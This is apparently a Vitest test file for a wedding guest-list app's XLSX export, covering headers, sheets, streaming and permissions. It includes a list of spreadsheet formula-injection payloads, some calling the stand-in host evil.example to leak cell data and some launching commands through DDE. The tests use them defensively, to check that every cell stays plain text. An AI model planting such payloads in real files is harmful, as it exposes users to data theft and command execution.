// One chance: rights

import readByAnother from 'read-excel-file/node'
import { expect, test } from 'vitest'
import { newWorld, type Person } from '#tests/world.ts'
import { readWorkbook, unzip } from '#tests/workbook.ts'

const world = await newWorld()

const scripts = [
  'José Ñandú',
  'Dvořák Žižka',
  'Дмитрий Иванов',
  'שרה כהן',
  'محمد علي',
  '李小龍',
  '김민준',
  'नेहा शर्मा',
  'ปิยะ ใจดี',
  '👩‍❤️‍👨 Kim',
]

/** What has made spreadsheets run, call out or show what they should not. */
const payloads = [
  '=1+1',
  "=cmd|'/c calc'!A1",
  '=HYPERLINK("http://evil.example/?"&A1,"Click")',
  '=WEBSERVICE("http://evil.example")',
  '=IMPORTXML("http://e","//a")',
  '+1+1',
  '+cmd|x',
  '-1+1',
  '-2+3+cmd|x',
  '@SUM(1+1)*cmd|x',
  '@A1',
  '=A1',
  '==1',
  '="a"',
  "='a'!A1",
  '=+1',
  '=-1',
  '=@x',
  '%0A=1+1',
  '|calc',
  "'=1+1",
  '"=1+1"',
  '＝1+1',
  '＋1',
  '－1',
  '＠SUM(1)',
  '=DDE("cmd";"/C calc";"a")',
  '=IMAGE("http://e/x.png")',
  '=RTD("x","","y")',
  '=CALL("k","W","J",1)',
  '=REGISTER.ID("a","b")',
  '=EXEC("calc")',
  '=LOAD("x")',
  '=FILTERXML("<a/>","//a")',
  '=ENCODEURL("x")',
  '</t></is></c><c r="A1"><f>1+1</f></c>',
  ']]><f>1</f>',
  '&lt;f&gt;',
  '<f>1</f>',
  '_x003D_1+1',
]

// CALL-045
test('the list leaves as guests.xlsx, with a sheet for everybody and one for each event', async () => {
  const ada = await world.couple()
  const [party, supper] = [await world.event(ada, 'Party: day/night [1]?'), await world.event(ada, "'Supper'")]
  await ada.post('/guests/many', { names: 'Karin & Bo Dahl\nSimone Grant', wedding_events: [party.id] })
  const [bo, karin] = (await ada.get('/guests')).body.data
  await ada.put(`/guests/${karin.id}`, { phone: '+1 (713) 555-0199', invitation_sent_at: '2026-10-12T09:00:00Z', tags: ['a', 'b'] })
  await ada.put(`/guests/${bo.id}/guest_wedding_events/${party.id}/status`, { status: 2, plus_one_count: 2, meal: 'Fish & <chips>' })
  await ada.put(`/guests/${bo.id}/guest_wedding_events/${supper.id}/status`, { status: 4 })

  const { response, bytes } = await exported(ada)
  expect(response.status).toBe(200)
  expect(response.headers.get('content-disposition')).toBe('attachment; filename="guests.xlsx"')
  expect(response.headers.get('content-type')).toBe('application/vnd.openxmlformats-officedocument.spreadsheetml.sheet')
  expect(response.headers.get('cache-control')).toBe('no-store')
  const sheets = readWorkbook(bytes)
  expect([...sheets.keys()]).toEqual(['Guests', 'Party  day night  1', 'Supper', 'Heads', 'Dinners'])
  const [head, ...everybody] = sheets.get('Guests')!
  expect(everybody.map(([lastname, firstname, household]) => [lastname, firstname, household])).toEqual([
    ['Dahl', 'Bo', 'Karin & Bo Dahl'],
    ['Dahl', 'Karin', 'Karin & Bo Dahl'],
    ['Grant', 'Simone', ''],
  ])
  expect(everybody[1]![head!.indexOf('Phone')]).toBe('+1 (713) 555-0199')
  expect(everybody[1]![head!.indexOf('Invitation sent')]).toBe('10-12-2026')
  expect(everybody[0]!.slice(-2)).toEqual(['Coming', 'Maybe'])
  expect(sheets.get('Party  day night  1')![1]!.slice(0, 7)).toEqual(['Dahl', 'Bo', 'Karin & Bo Dahl', 'Coming', 2, 3, 'Fish & <chips>'])
  expect(sheets.get('Supper')).toHaveLength(2)
  expect([...readWorkbook((await exported(ada, `?guest_event_id=${supper.id}`)).bytes).keys()]).toEqual(['Supper'])
})

test('no cell is ever a formula, and 40 payloads and names of ten scripts come back as they were written', async () => {
  expect(payloads).toHaveLength(40)
  const ada = await world.couple()
  const party = await world.event(ada, payloads[0]!)
  for (const text of [...payloads, ...scripts]) expect((await ada.post('/guests', everywhere(text, party.id))).status).toBe(201)
  const { bytes } = await exported(ada)
  const [, ...rows] = readWorkbook(bytes).get('Guests')!
  expect(rows.map(([, firstname]) => firstname).toSorted()).toEqual([...payloads, ...scripts].toSorted())
  // A library that had no part in writing it reads the same.
  const [sheet] = await readByAnother(bytes)
  expect(sheet!.sheet).toBe('Guests')
  expect(
    sheet!.data
      .slice(1)
      .map(([, firstname]) => firstname)
      .toSorted(),
  ).toEqual([...payloads, ...scripts].toSorted())
  for (const sheet of ['sheet1', 'sheet2']) {
    const xml = unzip(bytes).get(`xl/worksheets/${sheet}.xml`)!
    expect(xml).not.toMatch(/<f[ >]/)
    for (const [cell] of xml.matchAll(/<c r="[A-Z]+\d+"[^>]*>(?!<v>\d+<)/g)) expect(cell).toMatch(/t="inlineStr"/)
    for (const [, mark, text] of xml.matchAll(/<c r="[A-Z]+\d+" t="inlineStr"( s="2")?><is><t xml:space="preserve">([=+@-][^<]*)/g))
      expect([text, mark]).toEqual([text, ' s="2"'])
  }
  expect(unzip(bytes).get('xl/styles.xml')).toContain('quotePrefix="1"')
})

test('a list of 10,000 is streamed, with each guest once and in order', async () => {
  const ada = await world.couple()
  const rows = Array.from({ length: 10_000 }, (_, nth) => ({ user_id: ada.id, firstname: `Guest ${nth}`, lastname: `Name${nth % 7}` }))
  for (let from = 0; from < rows.length; from += 2_500)
    await world.db
      .insertInto('guests')
      .values(rows.slice(from, from + 2_500))
      .execute()
  const { bytes } = await exported(ada)
  const [, ...lines] = readWorkbook(bytes).get('Guests')!
  expect(new Set(lines.map(([, firstname]) => firstname)).size).toBe(10_000)
  expect(lines.map(([lastname]) => String(lastname))).toEqual(lines.map(([lastname]) => String(lastname)).toSorted())
})

test('a helper takes along what they may see, a stranger nothing', async () => {
  const [ada, bob] = [await world.couple(), await world.couple()]
  const [party, supper] = [await world.event(ada, 'Party'), await world.event(ada, 'Supper')]
  await ada.post('/guests', { firstname: 'Both', wedding_events: [party.id, { id: supper.id, status: 2, meal: 'Secret' }] })
  await ada.post('/guests', { firstname: 'Hidden', wedding_events: [supper.id] })
  const [mother, cook] = [await world.helper(ada, { [party.id]: [2] }), await world.helper(ada, { [party.id]: [1] })]
  const sheets = readWorkbook((await exported(mother, `?user_id=${ada.id}`)).bytes)
  expect([...sheets.keys()]).toEqual(['Guests', 'Party'])
  expect(JSON.stringify([...sheets])).not.toMatch(/Hidden|Secret|Supper/)
  expect((await exported(mother, `?guest_event_id=${supper.id}`)).response.status).toBe(404)
  expect((await exported(cook, `?guest_event_id=${party.id}`)).response.status).toBe(403)
  expect((await exported(bob, `?guest_event_id=${party.id}`)).response.status).toBe(404)
  expect([...readWorkbook((await exported(bob)).bytes)]).toEqual([['Guests', [expect.any(Array)]]])
  expect((await fetch(`${world.origin}/api/v1/guests/export`)).status).toBe(401)
})

/** A guest with this text in every column that takes text. */
function everywhere(text: string, event: number) {
  const names = [
    'firstname',
    'lastname',
    'address_line1',
    'address_line2',
    'city',
    'state',
    'country',
    'relationship',
    'wedding_party_role',
  ]
  const fields = Object.fromEntries([...names, 'dietary_notes', 'notes', 'gift'].map((name) => [name, text]))
  const short = { phone: text.slice(0, 40), postal_code: text.slice(0, 20), table_name: text.slice(0, 60) }
  const places = [{ id: event, status: 2, plus_one_count: 1, meal: text }]
  return { ...fields, ...short, plus_one_allowed: true, plus_one_names: [text], tags: [text.slice(0, 60)], wedding_events: places }
}

async function exported({ token }: Person, query = '') {
  const response = await fetch(`${world.origin}/api/v1/guests/export${query}`, { headers: { authorization: `Bearer ${token}` } })
  return { response, bytes: Buffer.from(await response.arrayBuffer()) }
}
